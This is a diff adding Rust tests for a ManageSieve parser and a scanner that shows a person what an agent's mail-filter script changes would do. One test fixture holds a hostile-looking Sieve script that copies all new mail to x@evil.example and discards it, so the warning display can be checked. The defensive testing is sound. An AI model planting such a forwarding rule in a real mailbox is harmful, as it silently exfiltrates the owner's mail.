@@ -1,0 +1,169 @@
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
+//! Transcripts: what an agent says, and what the person would be shown.
+
+use proptest::prelude::*;
+
+use super::command::{Command, command_line, parse};
+use super::{Change, Stored, change_of, effects, only_reads, reading};
+use crate::classify::imap::token::Piece;
+use crate::operation::Class;
+
+fn said(text: &str) -> Result<Command, super::Refused> {
+    parse(&[Piece::Text(text.as_bytes().to_vec())])
+}
+
+fn stored(scripts: &[(&str, &str)], active: Option<&str>) -> Stored {
+    Stored {
+        scripts: scripts.iter().map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec())).collect(),
+        active: active.map(str::to_owned),
+    }
+}
+
+fn facts(change: &Change, stored: &Stored) -> Vec<String> {
+    change.part(stored).operation.facts.iter().map(|fact| format!("{}: {}", fact.label, fact.value)).collect()
+}
+
+const OLD: &str = "require \"fileinto\";\nif header :contains \"subject\" \"sale\" {\n  fileinto \"Sales\";\n}\n";
+
+#[test]
+fn commands_are_understood_or_go_nowhere() {
+    let put = parse(&[
+        Piece::Text(b"putscript \"main\" ".to_vec()),
+        Piece::Literal(b"keep;\r\n".to_vec()),
+        Piece::Text(Vec::new()),
+    ]);
+    assert_eq!(put, Ok(Command::Change(Change::Put { name: "main".to_owned(), script: b"keep;\r\n".to_vec() })));
+    assert_eq!(said("SetActive \"\""), Ok(Command::Change(Change::Activate { name: None })));
+    assert_eq!(said("GETSCRIPT \"Grüße\""), Ok(Command::Get { name: "Grüße".to_owned() }));
+    assert_eq!(said("HAVESPACE \"a\" 99"), Ok(Command::HaveSpace { name: "a".to_owned(), size: 99 }));
+    for bad in [
+        "",
+        "PUTSCRIPT \"a\"",
+        "PUTSCRIPT a \"keep;\"",
+        "SETACTIVE main",
+        "GETSCRIPT \"a\u{1}\"",
+        "DELETESCRIPT \"\"",
+        "RENAMESCRIPT \"a\" \"b\" \"c\"",
+        "UNAUTHENTICATE",
+        "STARTTLS",
+        "X-OTHER \"a\"",
+        "LISTSCRIPTS \"a\"",
+    ] {
+        assert!(said(bad).is_err(), "{bad}");
+    }
+    let large = Piece::Literal(vec![b'#'; super::MAX_SCRIPT + 1]);
+    let refused = parse(&[Piece::Text(b"PUTSCRIPT \"a\" ".to_vec()), large]).unwrap_err();
+    assert!(refused.to_string().starts_with("(QUOTA/MAXSIZE)"), "{refused}");
+}
+
+#[test]
+fn the_person_sees_what_a_script_would_do_and_which_lines_are_new() {
+    let script = format!("{OLD}redirect :copy \"x@evil.example\";\ndiscard;\n").into_bytes();
+    let change = Change::Put { name: "main".to_owned(), script };
+    let part = change.part(&stored(&[("main", OLD)], Some("main")));
+    assert_eq!((part.operation.class, part.operation.action.as_str()), (Class::Divert, "sieve.put"));
+    let audience = part.operation.audience.unwrap();
+    assert_eq!(
+        (audience.members[0].address.as_str(), audience.members[0].role.as_str()),
+        ("x@evil.example", "forward")
+    );
+    insta::assert_snapshot!(facts(&change, &stored(&[("main", OLD)], Some("main"))).join("\n"), @r#"
+    Script: main (it runs on all new mail)
+    Look out: Sends mail on to x@evil.example (and keeps it)
+    Throws mail away
+    What it does: Files mail into Sales, as before
+    New lines: redirect :copy "x@evil.example";
+    discard;
+    "#);
+}
+
+#[test]
+fn turning_a_script_on_or_off_shows_the_difference_of_what_runs() {
+    let both = stored(&[("main", OLD), ("new", "redirect \"me@other.example\";")], Some("main"));
+    insta::assert_snapshot!(facts(&Change::Activate { name: Some("new".to_owned()) }, &both).join("\n"), @r#"
+    Runs from now on: new
+    Ran until now: main
+    Look out: Sends mail on to me@other.example
+    What it does no more: Files mail into Sales
+    New lines: redirect "me@other.example";
+    Lines taken away: require "fileinto";
+    if header :contains "subject" "sale" {
+      fileinto "Sales";
+    }
+    "#);
+    let off = facts(&Change::Activate { name: None }, &both);
+    assert_eq!(
+        off[..3],
+        ["Runs from now on: no script", "Ran until now: main", "What it does no more: Files mail into Sales"]
+    );
+    let deleted = facts(&Change::Delete { name: "main".to_owned() }, &both);
+    assert!(deleted.iter().any(|fact| fact.starts_with("Lines taken away")), "{deleted:?}");
+}
+
+#[test]
+fn every_spelling_of_an_action_is_found() {
+    let all = effects(
+        b"# redirect \"no@example.org\";\n/* discard; */ ReDirect\n :copy \"a\\\"b@x\"; vacation text:\r\nredirect \"quoted@x\";\r\n..\r\n.\r\n;\
+          if true { reject \"no\"; } elsif false { notify \"mailto:z\"; }\nexecute :pipe \"prog\"; fileinto :flags \"\\\\Deleted\" \"Trash\";\n\
+          setflag [\"\\\\Seen\", \"x\"]; include :personal \"other\"; frobnicate \"x\"; redirect \"${to}\"",
+    );
+    assert_eq!(all.redirects.iter().map(String::as_str).collect::<Vec<_>>(), ["${to}", "a\"b@x"]);
+    assert!(!all.discards && all.answers && all.rejects && all.notifies && all.runs_programs && all.moves_away);
+    assert_eq!(all.files_into.first().map(String::as_str), Some("Trash"));
+    assert_eq!(all.flags.iter().map(String::as_str).collect::<Vec<_>>(), ["\\Deleted", "\\Seen", "x"]);
+    assert_eq!(all.includes.first().map(String::as_str), Some("other"));
+    assert_eq!(all.others.first().map(String::as_str), Some("frobnicate"));
+    assert_eq!(effects(b"keep; stop;"), super::Effects::default());
+}
+
+#[test]
+fn a_change_is_the_call_that_leaves_and_back() {
+    let changes = [
+        Change::Put { name: "a/b ü".to_owned(), script: b"keep;".to_vec() },
+        Change::Activate { name: Some("x".to_owned()) },
+        Change::Activate { name: None },
+        Change::Delete { name: "x".to_owned() },
+        Change::Rename { name: "x".to_owned(), to: "y".to_owned() },
+    ];
+    for change in changes {
+        let call = change.call();
+        assert!(!only_reads(&call));
+        assert_eq!(change_of(&call), Some(change));
+    }
+    let read = reading("GETSCRIPT", "a", Vec::new(), bytes::Bytes::new()).unwrap();
+    assert!(only_reads(&read) && change_of(&read).is_none());
+    assert!(reading("PUTSCRIPT", "a", Vec::new(), bytes::Bytes::new()).is_none());
+}
+
+#[test]
+fn the_answer_is_about_the_stored_script_too() {
+    let change = Change::Put { name: "main".to_owned(), script: b"keep;".to_vec() };
+    let of = |text: &str, active| change.part(&stored(&[("main", text)], active)).operation.content;
+    assert_ne!(of("a", None), of("b", None));
+    assert_ne!(of("a", None), of("a", Some("main")));
+    assert_eq!(of("a", None), of("a", None));
+}
+
+proptest! {
+    #[test]
+    fn no_script_makes_the_scanner_fail(text in "\\PC{0,200}") {
+        let _ = effects(text.as_bytes()).grave();
+    }
+
+    #[test]
+    fn what_is_written_is_understood_the_same(name in "[ -~ü]{1,20}", script in "[ -~\r\n\"\\\\ä]{0,60}") {
+        let line = command_line("PUTSCRIPT", &[name.as_bytes(), script.as_bytes()], None);
+        // As the wire would: a literal ends its line.
+        let mut pieces = Vec::new();
+        let mut rest = line.as_slice();
+        while let Some(end) = rest.windows(2).position(|pair| pair == b"\r\n") {
+            let Some(found) = crate::classify::imap::token::announced(&rest[..end]) else { break };
+            let size = usize::try_from(found.size).unwrap();
+            pieces.push(Piece::Text(rest[..found.at].to_vec()));
+            pieces.push(Piece::Literal(rest[end + 2..end + 2 + size].to_vec()));
+            rest = &rest[end + 2 + size..];
+        }
+        pieces.push(Piece::Text(rest.to_vec()));
+        prop_assert_eq!(parse(&pieces), Ok(Command::Change(Change::Put { name, script: script.into_bytes() })));
+    }
+}
